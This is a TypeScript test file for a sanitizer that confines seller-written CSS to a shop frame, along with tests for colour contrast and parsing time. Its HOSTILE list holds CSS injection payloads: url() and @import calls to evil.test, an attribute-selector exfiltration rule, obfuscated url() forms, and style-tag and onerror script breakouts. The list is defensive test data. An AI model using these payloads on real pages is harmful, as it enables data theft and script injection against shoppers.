import fc from 'fast-check'
import { expect, test } from 'vitest'
import { contrast, luminance, readableOn, textColour } from './page.ts'
import { sellerCss } from './seller-css.ts'

const FRAME = '.shop'

test('what is harmless is kept, inside of the frame', () => {
  const { css, left_out } = sellerCss(
    '/* ours */ h1, .step:nth-child(2) { color: #123456; padding: calc(1rem + 2px) } @media (max-width: 600px) { h1 { font-size: 20px } }',
    FRAME,
  )
  expect(left_out).toEqual([])
  expect(css).toBe(
    '.shop h1, .shop .step:nth-child(2) { color: #123456; padding: calc(1rem + 2px) }\n@media (max-width: 600px) {\n.shop h1 { font-size: 20px }\n}',
  )
})

const HOSTILE = [
  'h1 { background: url(https://evil.test/?x) }',
  'h1 { background: u\\72l(https://evil.test) }',
  'h1 { background: URL("//evil.test") }',
  'h1 { background-image: image-set("https://evil.test" 1x) }',
  'h1 { background-image: -webkit-image-set("https://evil.test" 1x) }',
  'h1 { background: src("https://evil.test") }',
  'h1 { background: url/**/(https://evil.test) }',
  "@import 'https://evil.test/a.css';",
  '@import url(//evil.test);',
  '@font-face { font-family: x; src: url(https://evil.test) }',
  '@namespace url(http://evil.test);',
  '@charset "utf-7";',
  'h1 { position: fixed; inset: 0; z-index: 99999 }',
  'h1 { behavior: url(#x) }',
  'h1 { width: expression(alert(1)) }',
  '</style><script>alert(1)</script>',
  'h1 { content: "</style><img src=x onerror=alert(1)>" }',
  '+ footer { display: none }',
  '~ * { display: none }',
  '> body { color: red }',
  'h1 { color: red } } body { display: none }',
  'h1 { color: red; } /* footer { display: none',
  ':root { --x: url(https://evil.test) }',
  'h1 { & footer { display: none } }',
  '@media screen { @import "x"; }',
  '@media screen { footer { background: url(x) } }',
  'input[value^="a"] { background: url(https://evil.test/a) }',
  'h1 { color: red\u0000; background: url(x) }',
  'h1 { cursor: url(https://evil.test), auto }',
  'h1 { filter: url(https://evil.test#f) }',
  'h1 { -moz-binding: url(x) }',
]

/** Whatever goes in, what comes out loads nothing and begins every rule inside of the frame. */
function mustBeSafe(text: string) {
  const { css } = sellerCss(text, FRAME)
  expect(css).not.toMatch(/url\s*\(|image-set|src\s*\(|@import|@font-face|expression|position\s*:|<|\\|\/\*/i)
  for (const line of css.split('\n').filter((one) => one !== '' && one !== '}')) {
    if (line.startsWith('@media')) continue
    const head = line.slice(0, line.indexOf('{'))
    for (const selector of head.split(',')) expect(selector.trim()).toMatch(/^\.shop [^>+~\s]/)
    expect(line.match(/[{}]/g)).toEqual(['{', '}'])
  }
}

test('hostile styles load nothing and stay inside', () => {
  for (const text of HOSTILE) {
    mustBeSafe(text)
    mustBeSafe(`p { color: red } ${text} p { margin: 0 }`)
  }
})

test('any mixture of pieces stays inside', () => {
  const piece = fc.oneof(
    fc.constantFrom(...HOSTILE),
    fc.constantFrom(
      '{',
      '}',
      ';',
      ':',
      '/*',
      '*/',
      '@media screen',
      'h1',
      'url(',
      '\\',
      '"',
      "'",
      '<',
      ',',
      '> a',
      'color: red',
      '\n',
    ),
    fc.string({ maxLength: 12 }),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => mustBeSafe(pieces.join(' '))),
    { numRuns: 500 },
  )
})

test('texts can be read on every colour', () => {
  const part = fc.integer({ min: 0, max: 255 }).map((n) => n.toString(16).padStart(2, '0'))
  const colour = fc.tuple(part, part, part).map((parts) => `#${parts.join('')}`)
  fc.assert(
    fc.property(colour, colour, (a, b) => {
      expect(contrast(a, readableOn(a))).toBeGreaterThanOrEqual(4.5)
      expect(contrast(textColour(a, b), b)).toBeGreaterThanOrEqual(4.5)
    }),
  )
})

test('how light a colour is, as WCAG counts it', () => {
  const known = { '#000000': 0, '#ffffff': 1, '#ff0000': 0.2126, '#00ff00': 0.7152, '#0000ff': 0.0722 }
  for (const [colour, light] of Object.entries(known)) expect(luminance(colour)).toBeCloseTo(light, 6)
  expect(luminance('#808080')).toBeCloseTo(0.21586, 5)
  expect(luminance('#0a0a0a')).toBeCloseTo(0.003035, 6)
  expect([contrast('#000000', '#ffffff'), contrast('#ffffff', '#000000')]).toEqual([21, 21])
  // The greys on both sides of 4.5:1 on white.
  expect([textColour('#767676', '#ffffff'), textColour('#777777', '#ffffff')]).toEqual(['#767676', '#000000'])
})

test('nothing a seller types takes long', () => {
  const began = process.threadCpuUsage().user
  for (const part of ['/*', 'a', 'a(', '@media ', 'h1{', '{', ' ', "h1{color:'", 'a:', '-', ';'])
    sellerCss(part.repeat(Math.ceil(80_000 / part.length)), FRAME)
  // Ten times what is let in, in a time that a slow machine needs for it; what grows with the square takes minutes.
  expect((process.threadCpuUsage().user - began) / 1_000_000).toBeLessThan(10)
})
